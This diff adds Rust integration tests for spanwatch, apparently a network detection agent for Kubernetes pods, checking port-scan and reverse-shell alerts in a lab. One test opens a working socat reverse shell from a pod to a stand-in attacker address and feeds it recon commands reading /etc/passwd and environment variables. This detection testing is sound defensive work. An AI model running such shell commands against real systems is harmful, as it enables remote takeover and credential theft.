@@ -1,0 +1,184 @@
+//! `spanwatch agent` and `sensor` on real interfaces: real pods, real tools, real signals.
+
+use std::time::Duration;
+
+use serde_json::Value;
+
+use crate::lab::Lab;
+
+/// How long an alert may take, on a machine that is busy with other tests.
+const SOON: Duration = Duration::from_secs(40);
+
+fn is(signature: &'static str) -> impl Fn(&Value) -> bool {
+    move |alert| alert["signature"] == signature
+}
+
+/// The numbers of `any: received 12 packets = processed 3 + 9 of no pod`: what was received, and what became of it.
+fn account(said: &str, interface: &str) -> (u64, Vec<u64>) {
+    let line = said
+        .lines()
+        .find(|line| line.starts_with(&format!("{interface}: received")));
+    let line = line.unwrap_or_else(|| panic!("{said}")).replace(',', "");
+    let (received, became) = line.split_once('=').unwrap();
+    let numbers = |text: &str| {
+        let words = text.split_whitespace();
+        words
+            .filter_map(|word| word.parse().ok())
+            .collect::<Vec<u64>>()
+    };
+    (numbers(received)[0], numbers(became))
+}
+
+#[test]
+fn a_scan_by_a_pod_is_told_with_its_name_and_every_packet_accounted_for() {
+    let Some(lab) = Lab::new(&["nmap"]) else {
+        return;
+    };
+    let web = lab.pod("web-7d4b9c8f5d-x2x9k");
+    let worker = lab.pod("worker-6b8f5d7c9b-4qk7z");
+    let cni = lab.cni();
+    let mut agent = lab.spanwatch(&["agent", "--inventory", cni.to_str().unwrap()]);
+    worker.exec(&["nmap", "-n", "-Pn", "-sS", "-T4", "-p1-600", &web.ip]);
+    let alert = agent.alert(SOON, is("port-scan"));
+    assert_eq!(alert["status"], "open");
+    assert_eq!(alert["actor"]["namespace"], "shop");
+    assert_eq!(alert["actor"]["pod"], worker.name);
+    assert_eq!(alert["targets"][0]["pod"], web.name, "{alert}");
+
+    let (code, alerts, said) = agent.stop();
+    assert_eq!(code, Some(0), "{said}");
+    let told = alerts.iter().rfind(|alert| is("port-scan")(alert));
+    assert_eq!(told.unwrap()["status"], "closed");
+    assert!(alerts.iter().all(is("port-scan")), "{alerts:#?}");
+    let (received, became) = account(&said, "any");
+    assert_eq!(received, became.iter().sum::<u64>(), "{said}");
+    assert!(
+        became[0] >= 2400,
+        "both ends' interfaces show SYN and RST: {said}"
+    );
+}
+
+#[test]
+fn a_sidecar_sees_its_pod_and_its_loopback() {
+    let Some(lab) = Lab::new(&["nmap"]) else {
+        return;
+    };
+    let web = lab.pod("web-7d4b9c8f5d-x2x9k");
+    let worker = lab.pod("worker-6b8f5d7c9b-4qk7z");
+    let cni = lab.cni();
+    let cni = cni.to_str().unwrap();
+    let mut sidecar = worker.spanwatch(&["agent", "-i", "lo", "-i", "eth0", "--inventory", cni]);
+    worker.exec(&["nmap", "-n", "-Pn", "-sT", "-T4", "-p1-300", &web.ip]);
+    worker.exec(&["nmap", "-n", "-Pn", "-sT", "-p80-82", "127.0.0.1"]);
+    let alert = sidecar.alert(SOON, is("port-scan"));
+    assert_eq!(alert["actor"]["pod"], worker.name);
+    let (code, _, said) = sidecar.stop();
+    assert_eq!(code, Some(0), "{said}");
+    for (interface, at_least) in [("lo", 6), ("eth0", 600)] {
+        let (received, became) = account(&said, interface);
+        assert_eq!(received, became.iter().sum::<u64>(), "{said}");
+        assert!(became[0] >= at_least, "{said}");
+    }
+}
+
+#[test]
+fn a_mirror_port_tells_the_same() {
+    mirrored(false);
+}
+
+#[test]
+fn a_mirror_that_comes_through_a_tunnel_tells_the_same() {
+    mirrored(true);
+}
+
+/// Copies what every pod's port sees to a mirror port, plain or in VXLAN.
+fn mirrored(wrapped: bool) {
+    let Some(lab) = Lab::new(&["nmap", "tc"]) else {
+        return;
+    };
+    let web = lab.pod("web-7d4b9c8f5d-x2x9k");
+    let worker = lab.pod("worker-6b8f5d7c9b-4qk7z");
+    lab.on_node("ip link add span0 type veth peer name span1");
+    for end in ["span0", "span1"] {
+        lab.on_node(&format!("ip link set {end} up"));
+    }
+    let to = if wrapped { "vx0" } else { "span0" };
+    if wrapped {
+        lab.on_node("ip addr add 10.77.0.1/24 dev span0");
+        lab.on_node("ip neigh add 10.77.0.2 lladdr 02:00:00:00:00:02 dev span0");
+        lab.on_node("ip link add vx0 type vxlan id 77 remote 10.77.0.2 dstport 4789 dev span0");
+        lab.on_node("ip link set vx0 up");
+    }
+    for port in lab.ports() {
+        lab.on_node(&format!("tc qdisc add dev {port} clsact"));
+        for direction in ["ingress", "egress"] {
+            lab.on_node(&format!(
+                "tc filter add dev {port} {direction} protocol all u32 match u32 0 0 action mirred egress mirror dev {to}"
+            ));
+        }
+    }
+    let cni = lab.cni();
+    let cni = cni.to_str().unwrap();
+    let mut sensor = lab.spanwatch(&["sensor", "-i", "span1", "--promisc", "--inventory", cni]);
+    worker.exec(&["nmap", "-n", "-Pn", "-sS", "-T4", "-p1-600", &web.ip]);
+    let alert = sensor.alert(SOON, is("port-scan"));
+    assert_eq!(alert["actor"]["pod"], worker.name);
+    assert_eq!(alert["targets"][0]["pod"], web.name, "{alert}");
+    let (code, alerts, said) = sensor.stop();
+    assert_eq!(code, Some(0), "{said}");
+    assert!(alerts.iter().all(is("port-scan")), "{alerts:#?}");
+    let (received, became) = account(&said, "span1");
+    assert_eq!(received, became.iter().sum::<u64>(), "{said}");
+    assert!(became[0] >= 2400, "{said}");
+}
+
+#[test]
+fn an_interface_may_come_later_go_and_come_back() {
+    let Some(lab) = Lab::new(&["nmap"]) else {
+        return;
+    };
+    let mut sensor = lab.spanwatch(&["sensor", "-i", "up0", "-i", "lo"]);
+    sensor.hear("waiting for it to appear");
+    let host = lab.outside("203.0.113.9");
+    sensor.hear("up0 is there now");
+    lab.on_node("ip link del up0");
+    sensor.hear("waiting for it to come back");
+    sensor.said.clear();
+    lab.connect(&host);
+    sensor.hear("up0 is there now");
+    host.exec(&["nmap", "-n", "-Pn", "-sS", "-T4", "-p1-600", "10.99.0.1"]);
+    sensor.alert(SOON, is("port-scan"));
+    let (code, _, said) = sensor.stop();
+    assert_eq!(code, Some(0), "{said}");
+    let (received, became) = account(&said, "up0");
+    assert_eq!(received, became.iter().sum::<u64>(), "{said}");
+}
+
+#[test]
+fn a_reverse_shell_is_told_while_it_is_open() {
+    let Some(lab) = Lab::new(&["socat"]) else {
+        return;
+    };
+    let worker = lab.pod("worker-6b8f5d7c9b-4qk7z");
+    let attacker = lab.outside("203.0.113.9");
+    let cni = lab.cni();
+    let mut agent = lab.spanwatch(&["agent", "--inventory", cni.to_str().unwrap()]);
+    // Somebody types.
+    let types = "for line in id 'uname -a' 'cat /etc/passwd' 'ls -la /' env 'cat /proc/mounts' 'ls /var/run'; do \
+                 sleep 1; echo \"$line\"; done; sleep 60";
+    let listens = format!("({types}) | socat - TCP-LISTEN:4444,reuseaddr");
+    let _attacker = attacker.start(&["sh", "-c", &listens]);
+    let _shell = worker.start(&[
+        "sh",
+        "-c",
+        "sleep 1; socat TCP:203.0.113.9:4444 EXEC:/bin/sh",
+    ]);
+    let alert = agent.alert(SOON, is("reverse-shell"));
+    assert_eq!(alert["status"], "open");
+    assert_eq!(alert["actor"]["pod"], worker.name);
+    assert_eq!(alert["targets"][0]["ip"], attacker.ip, "{alert}");
+    let (code, _, said) = agent.stop();
+    assert_eq!(code, Some(0), "{said}");
+    let (received, became) = account(&said, "any");
+    assert_eq!(received, became.iter().sum::<u64>(), "{said}");
+}
